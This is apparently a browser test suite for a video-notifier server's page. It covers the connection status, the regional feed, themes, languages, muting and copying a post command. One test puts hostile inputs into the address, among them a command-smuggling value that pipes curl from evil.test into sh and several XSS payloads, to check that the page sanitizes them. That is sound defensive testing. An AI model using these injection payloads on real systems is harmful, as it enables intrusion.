// The server's own page at `/`: what it shows of the connection, and what a visitor can choose there.

import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, afterEach, before, beforeEach, test } from "node:test";
import { promisify } from "node:util";
import { Chromium } from "./support/chromium.js";
import { WATCH } from "./support/hostile.js";
import { Server, TOKEN } from "./support/server.js";
import { OPEN } from "./support/sharing.js";
import { eventually } from "./support/wait.js";

let chromium;
let context;
let server;
before(async () => {
  chromium = await Chromium.start();
});
beforeEach(async () => {
  context = await chromium.context();
  server = await Server.start();
});
afterEach(async () => {
  await chromium.send("Target.disposeBrowserContext", { browserContextId: context });
  await server.close();
});
after(() => chromium?.close());

async function open(query = "") {
  const tab = await chromium.open(`${server.origin}/${query}`, { context });
  await tab.until(OPEN);
  return tab;
}

const text = (tab, selector) => tab.call((selector) => document.querySelector(selector).textContent, selector);

/** What the feed says, one line a notification. */
const feed = (tab) =>
  tab.call(() => [...document.querySelectorAll("#feed strong")].map(({ textContent }) => textContent));

const feedIs = (tab, ...lines) =>
  eventually(async () => JSON.stringify(await feed(tab)) === JSON.stringify(lines), { what: lines.join() });

/** As a reader does: by a click, and for a list by its events. */
const choose = (tab, selector, value) =>
  tab.call(
    (selector, value) => {
      const control = document.querySelector(selector);
      if (value === null) return control.click();
      control.value = value;
      control.dispatchEvent(new Event("change", { bubbles: true }));
    },
    selector,
    value ?? null,
  );

test("it tells the state of the connection, how many tabs share it, and the position", async () => {
  const first = await open();
  const second = await open();
  await first.until("document.querySelector('#tabs').textContent === '2 tabs'");
  for (const tab of [first, second]) assert.match(await text(tab, "#position"), /^\w+-0$/);
  const { id } = await server.publish("a title");
  for (const tab of [first, second]) {
    await tab.until(`document.querySelector('#position').textContent === '${id}'`);
    assert.equal(await text(tab, "#state"), "Connected");
    await tab.until("/^\\d+ ms$/.test(document.querySelector('#trip').textContent)");
  }
  assert.equal(first.sockets.length + second.sockets.length, 1);
  await second.close();
  await first.until("document.querySelector('#tabs').textContent === 'this tab'");
  await server.kill();
  await first.until("document.querySelector('#state').textContent === 'Waiting to reconnect'");
  await server.launch();
  await first.until("document.querySelector('#state').textContent === 'Connected'");
});

test("the feed has what was before and what comes, of the regions that are chosen", async () => {
  await server.publish("before", { region: "US", count: 1234 });
  await server.publish("before too", { region: "JP" });
  await server.publish("not of a country", { region: "cats" });
  const tab = await open();
  await feedIs(tab, "cats: 1 new video", "Japan: 1 new video", "United States: 1,234 new videos");
  await choose(tab, "#regions [value=JP]");
  await feedIs(tab, "Japan: 1 new video");
  await server.publish("elsewhere", { region: "US" });
  await server.publish("now", { region: "JP", count: 2 });
  await feedIs(tab, "Japan: 2 new videos", "Japan: 1 new video");
  assert.match(await text(tab, "#embed"), /data-regions="JP"/);
  // The address has it, and so has the next visit.
  assert.equal(await tab.evaluate("location.search"), "?regions=JP");
  await tab.reload();
  await feedIs(tab, "Japan: 2 new videos", "Japan: 1 new video");
  await choose(tab, "#regions [value=JP]");
  await feedIs(
    tab,
    "Japan: 2 new videos",
    "United States: 1 new video",
    "cats: 1 new video",
    "Japan: 1 new video",
    "United States: 1,234 new videos",
  );
});

test("theme and direction are those that are chosen, of the page and of the toasts", async () => {
  const tab = await open();
  const look = () =>
    tab.call(() => {
      const toast = document.querySelector("video-notifier-toasts").shadowRoot.querySelector(".vw-toast");
      return [getComputedStyle(document.body), getComputedStyle(toast)].map(({ backgroundColor, direction }) => {
        const [red] = backgroundColor.match(/\d+/g);
        return `${red < 128 ? "dark" : "light"} ${direction}`;
      });
    });
  await tab.send("Emulation.setEmulatedMedia", { features: [{ name: "prefers-color-scheme", value: "light" }] });
  await server.publish("a title");
  await eventually(async () => (await tab.toasts()).length === 1, { what: "a toast" });
  assert.deepEqual(await look(), ["light ltr", "light ltr"]);
  await choose(tab, "#theme", "dark");
  assert.deepEqual(await look(), ["dark ltr", "dark ltr"]);
  await choose(tab, "#rtl");
  assert.deepEqual(await look(), ["dark rtl", "dark rtl"]);
  assert.equal(await tab.evaluate("location.search"), "?theme=dark&dir=rtl");
  await tab.send("Emulation.setEmulatedMedia", { features: [{ name: "prefers-color-scheme", value: "dark" }] });
  await choose(tab, "#theme", "light");
  await choose(tab, "#rtl");
  assert.deepEqual(await look(), ["light ltr", "light ltr"]);
});

test("another language starts another notifier, which loses nothing and leaves nothing of the first", async () => {
  const tab = await open();
  await server.publish("first");
  await feedIs(tab, "United States: 1 new video");
  await tab.evaluate("window.before = VideoNotifier.instance");
  await choose(tab, "#lang", "de");
  await server.publish("second");
  await feedIs(tab, "United States: 1 new video", "United States: 1 new video");
  const left = "[before.state, document.querySelectorAll('video-notifier-toasts').length, location.search]";
  assert.deepEqual(await tab.evaluate(left), ["closed", 1, "?lang=de"]);
  // A client that has no German stays with the page's language.
  const frame = "document.querySelector('video-notifier-toasts').shadowRoot.querySelector('.frame').lang";
  assert.equal(await tab.evaluate(frame), await tab.evaluate("'de' in (VideoNotifier.texts ?? {}) ? 'de' : 'en'"));
  assert.deepEqual(tab.errors, []);
});

test("muting is for all tabs, and each shows it", async () => {
  const [first, second] = [await open(), await open()];
  await choose(first, "#muted");
  await second.until("document.querySelector('#muted').checked && VideoNotifier.instance.muted");
  await server.publish("unheard");
  for (const tab of [first, second]) await feedIs(tab, "United States: 1 new video");
  assert.deepEqual([...(await first.toasts()), ...(await second.toasts())], []);
});

test("the command that it gives can be copied, and posts something new each time that a shell runs it", async (t) => {
  const tab = await open("?regions=DE");
  await chromium.send("Browser.grantPermissions", {
    browserContextId: context,
    origin: server.origin,
    permissions: ["clipboardReadWrite", "clipboardSanitizedWrite"],
  });
  await tab.show();
  await choose(tab, "[data-copies=post]");
  await tab.until("document.querySelector('[data-copies=post]').textContent === 'Copied'");
  const command = await tab.evaluate("navigator.clipboard.readText()");
  assert.equal(command, await text(tab, "#post"));

  // As in the folder that a server was started in.
  const cwd = await mkdtemp(join(tmpdir(), "video-notifier-folder-"));
  t.after(() => rm(cwd, { recursive: true }));
  await mkdir(join(cwd, "data"));
  await writeFile(join(cwd, "data/notify.token"), TOKEN);
  const post = async () => JSON.parse((await promisify(execFile)("sh", ["-c", command], { cwd })).stdout);
  const { id, region, count, deduplicated, subscribers } = await post();
  assert.deepEqual([region, count, deduplicated, subscribers], ["DE", 37, false, 1]);
  await feedIs(tab, "Germany: 37 new videos");
  await eventually(async () => (await post()).id !== id, { what: "another second's post is another" });
});

test("it breaks none of its own policy", async () => {
  await server.publish("before");
  const tab = await chromium.open(`${server.origin}/`, { context, before: WATCH });
  await tab.until("VideoNotifier.instance.state === 'open' && document.querySelectorAll('#feed > li').length === 1");
  await server.publish("<script>alert(1)</script>");
  await tab.until("document.querySelectorAll('#feed > li').length === 2");
  await eventually(async () => (await tab.toasts()).length === 1, { what: "a toast" });
  assert.deepEqual(await tab.evaluate("[violations, pwned, errors]"), [[], [], []]);
});

test("what somebody puts into the address gets into no command and no markup", async () => {
  const hostile = [`US';curl evil.test|sh;'`, "$(id)", "`id`", '"><img src=x onerror=alert(1)>', "a\nb", "JP"];
  const tab = await open(`?regions=${encodeURIComponent(hostile.join())}&lang=x'y&theme=%3Cb%3E&dir=ltr;`);
  assert.equal(
    await tab.evaluate("[...document.querySelectorAll('#regions :checked')].map(({ value }) => value).join()"),
    "JP",
  );
  assert.match(await text(tab, "#post"), /"region": "JP", /);
  assert.doesNotMatch(await text(tab, "main"), /evil|onerror|\$\(id/);
  assert.equal(await tab.evaluate("location.search"), "?regions=JP");
});

test("without a clipboard the command is selected instead", async () => {
  const tab = await open();
  await tab.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })");
  await choose(tab, "[data-copies=post]");
  await tab.until("document.querySelector('[data-copies=post]').textContent === 'Selected'");
  assert.equal(await tab.evaluate("getSelection().toString()"), await text(tab, "#post"));
});
